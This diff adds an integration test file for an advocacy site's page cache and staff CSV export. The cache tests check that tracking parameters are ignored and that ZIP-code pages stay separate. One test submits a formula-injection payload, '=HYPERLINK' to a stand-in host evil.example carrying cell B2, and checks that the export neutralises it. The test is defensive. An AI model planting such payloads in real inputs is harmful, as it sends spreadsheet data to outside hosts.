@@ -1,0 +1,62 @@
+// Audit 9 over HTTP, on one production server: the page cache keys on the query parameters a page
+// reads (a parameter it ignores cannot bust the cache), and a staff CSV export neutralises a name
+// that starts like a spreadsheet formula.
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { startAppServer } from "../helpers/app-server";
+import type { AppServer } from "../helpers/app-server";
+import { application, post, signInOverHttp } from "../helpers/http-session";
+import { startSmtpSink } from "../helpers/smtp-sink";
+import type { SmtpSink } from "../helpers/smtp-sink";
+
+describe("privacy and exports over HTTP", () => {
+  let app: AppServer;
+  let sink: SmtpSink;
+  beforeAll(async () => {
+    sink = await startSmtpSink();
+    app = await startAppServer({ SMTP_URL: sink.url, ADMIN_EMAIL: "admin@example.org" });
+  });
+  afterAll(async () => {
+    await app?.stop();
+    await sink?.close();
+  });
+
+  const page = async (path: string) => {
+    const res = await fetch(`${app.url}${path}`);
+    return { cache: res.headers.get("x-page-cache"), html: (await res.text()).replace(/<!-- -->/g, "") };
+  };
+
+  it("serves /?utm_source=… from the cache entry of /, whatever the parameter's value", async () => {
+    const home = await page("/");
+    for (const n of [1, 2, 3]) {
+      const tracked = await page(`/?utm_source=mail-${n}&fbclid=${n}`);
+      expect(tracked.cache).toBe("HIT");
+      expect(tracked.html).toBe(home.html);
+    }
+  });
+
+  it("keeps apart the pages of different ZIP codes, in any parameter order", async () => {
+    const syracuse = await page("/act?zip=13202&utm_source=a");
+    const manhattan = await page("/act?zip=10001");
+    expect(syracuse.html).toContain("Your members of Congress for ZIP 13202");
+    expect(manhattan.html).toContain("Your members of Congress for ZIP 10001");
+    expect((await page("/act?utm_medium=b&zip=13202")).cache).toBe("HIT");
+    // The page was made without the parameter it ignores: its links and form do not carry it.
+    expect(syracuse.html).not.toContain("utm_source");
+    const campaign = await page("/act/residency-shortage-act?zip=10001&district=NY-12");
+    expect((await page("/act/residency-shortage-act?district=NY-12&ref=x&zip=10001")).cache).toBe("HIT");
+    expect(campaign.html).not.toContain("ref=x");
+  });
+
+  it("exports a name that starts like a formula as inert text in the staff directory's CSV", async () => {
+    const hyperlink = '=HYPERLINK("https://evil.example/?x="&B2,"Open")';
+    expect((await post(app, "/join/apply", application("formula@example.org", { name: hyperlink }))).status).toBe(200);
+    const staff = await signInOverHttp(app, sink, "admin@example.org");
+    const res = await fetch(`${app.url}/admin/applications.csv?status=all`, { headers: { cookie: staff } });
+    expect(res.status).toBe(200);
+    const csv = await res.text();
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&B2,""Open"")"`);
+    const row = (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.email === "formula@example.org");
+    expect(row?.name).toBe(`'${hyperlink}`);
+  });
+});
